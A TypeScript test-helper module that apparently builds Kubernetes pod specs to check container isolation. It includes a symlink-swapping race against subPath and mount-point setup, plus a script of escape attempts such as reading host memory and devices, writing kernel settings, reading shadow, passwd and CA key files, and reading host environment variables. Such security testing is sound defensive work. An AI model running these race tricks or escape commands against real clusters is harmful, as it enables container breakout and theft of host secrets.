import type { Pod } from '../../src/api/core/v1/pod.ts';

type PodSpec = Pod['spec'];
type Container = PodSpec['containers'][number];

/** The ways by which the containers of a runtime run a shell and Node. */
export interface Attacker {
  /** A container that runs a script by its shell. */
  sh(script: string, changes?: Partial<Container>): Container;
  /** Words of the shell before the arguments of Node. */
  readonly node: string;
  /** The path of a volume, for Node, that the shell has at `top`. */
  topOf(top: string): string;
  /** Mounts of a container with a volume at `top`, which may run Node. */
  mountsOf(volume: string, top: string): NonNullable<Container['volumeMounts']>;
  /** Volumes that these mounts need beside it. */
  readonly volumes: NonNullable<PodSpec['volumes']>;
}

/** Containers that start while another one changes what they mount. */
export const victims = 5;

export interface Swaps {
  readonly volume: string;
  /** The mount point of the volume. */
  readonly top: string;
  /** Name of the directory, which may have a file `own`. */
  readonly directory: string;
  /** Targets of the links that take its place, one after the other. */
  readonly links: readonly string[];
}

/**
 * A container that puts links in the place of a directory without end. One process does it: a program for each rename took three quarters
 * of the processor time of these tests. Most states are shorter than the steps of a start. The next containers start when it has begun.
 */
export function swapper({ sh, node, topOf, mountsOf }: Attacker, { volume, top, directory, links }: Swaps): Container {
  const begun = `${top}/begun`;
  const script = [
    `mkdir ${top}/${directory}`,
    `touch ${top}/${directory}/own`,
    ...links.map((target, index) => `ln -s ${target} ${top}/link${index}`),
    `exec ${node} -e '${swapEndlessly}' ${topOf(top)} ${directory} ${links.length}`,
  ].join(' && ');
  return sh(script, {
    volumeMounts: mountsOf(volume, top),
    lifecycle: { postStart: { exec: { command: ['/bin/sh', '-c', `until [ -e ${begun} ]; do sleep 0.02; done`] } } },
  });
}

/** A program for Node. By the arguments `TOP NAME COUNT` it swaps the directory `TOP/NAME` for the links `TOP/link0` and following. */
export const swapEndlessly = `
  const { renameSync, writeFileSync } = require("node:fs");
  const [top, directory, links] = process.argv.slice(1);
  const place = top + "/" + directory;
  const pause = new Int32Array(new SharedArrayBuffer(4));
  const move = (from, to) => {
    // A start may have made a directory of the name.
    try { renameSync(from, to); } catch {}
  };
  const rest = () => Math.random() < 0.5 && Atomics.wait(pause, 0, 0, 0.05);
  writeFileSync(top + "/begun", "");
  for (let turn = 0; ; turn = (turn + 1) % Number(links)) {
    const link = top + "/link" + turn;
    move(place, top + "/dir");
    move(link, place);
    rest();
    move(place, link);
    move(top + "/dir", place);
    rest();
  }`;

/** A pod whose first container swaps the directory of a subPath for links to `leads`, while others start with that subPath. */
export const subPathRace = (attacker: Attacker, leads: readonly string[]): Pick<PodSpec, 'volumes' | 'containers'> => ({
  volumes: [{ name: 'e', emptyDir: {} }, ...attacker.volumes],
  containers: [
    swapper(attacker, { volume: 'e', top: '/e', directory: 's', links: leads }),
    ...victimsOf(attacker, 'ls -A /sub | sed "s/^/saw /"; cat /sub/ca.key; cat /sub/shadow /sub/passwd | sed "s/^/read /"; echo ran', [
      { name: 'e', mountPath: '/sub', subPath: 's' },
    ]),
  ],
});

/** A pod whose first container swaps a directory for links, while others start with another volume, `f`, mounted there. */
export const mountPointRace = (attacker: Attacker, leads: readonly string[], script: string): Pick<PodSpec, 'volumes' | 'containers'> => ({
  volumes: [{ name: 'e', emptyDir: {} }, { name: 'f', emptyDir: {} }, ...attacker.volumes],
  containers: [
    swapper(attacker, { volume: 'e', top: '/e', directory: 'b', links: leads }),
    ...victimsOf(attacker, script, [
      { name: 'e', mountPath: '/a' },
      { name: 'f', mountPath: '/a/b' },
    ]),
  ],
});

const victimsOf = ({ sh }: Attacker, script: string, volumeMounts: NonNullable<Container['volumeMounts']>): readonly Container[] =>
  Array.from({ length: victims }, (_, index) => sh(script, { name: `victim-${index}`, volumeMounts }));

export interface AttackedMachine {
  readonly dataDirectory: string;
  /** A file of the data directory with a key. */
  readonly keyFile: string;
  /** A variable of programs of the machine, which no pod has. */
  readonly variable: string;
  /** The container has a ConfigMap here. */
  readonly configMap: string;
  /** Its user is root on the machine too, though without capabilities. The kernel asks for no more where it writes a setting. */
  readonly hasIdOfRoot?: boolean;
}

/** Prints `broke out: …` for each attempt that succeeds, and `tried` at the end. Nothing of it does harm where it succeeds. */
export const attacks = ({ dataDirectory, keyFile, variable, configMap, hasIdOfRoot = false }: AttackedMachine): string =>
  [
    ...Object.entries({
      'read a device of the machine': 'mknod /tmp/log c 1 11 && head -c 1 /tmp/log',
      'read memory of the machine': 'head -c 1 /dev/mem || head -c 1 /proc/kcore',
      'mounted a file system': 'mount -t tmpfs none /mnt',
      'remounted a directory': 'mount -o remount,rw,bind /etc || mount -o remount,rw,bind /proc/sys',
      'unmounted a directory': 'umount -l /proc || umount -l /etc',
      'got rights in a namespace': 'unshare --user --map-root-user mount -t tmpfs none /tmp',
      ...(hasIdOfRoot
        ? {}
        : {
            'wrote a setting of the kernel': 'f=/proc/sys/kernel/core_pattern; v=$(cat $f) && echo "$v" > $f',
            'sent a key to the kernel': 'echo h > /proc/sysrq-trigger',
          }),
      'made a control group':
        '{ [ -e /sys/fs/cgroup/cgroup.procs ] && mkdir /sys/fs/cgroup/by-pod; } || mkdir /sys/fs/cgroup/memory/by-pod',
      'listed the data directory': `[ -n "$(ls -A ${dataDirectory}; ls -A /proc/1/root${dataDirectory})" ]`,
      'read a key': `cat ${keyFile} || cat /proc/1/root${keyFile}`,
      'read variables of the machine': `cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep "^${variable}="`,
      'changed a ConfigMap': `rm -rf ${configMap}/..data && [ ! -e ${configMap}/..data ] || touch ${configMap}/new || ln -s /etc ${configMap}/..data_tmp`,
    }).map(([what, attempt]) => `if { ${attempt}; } >/dev/null 2>&1; then echo "broke out: ${what}"; fi`),
    'echo tried',
  ].join('\n');
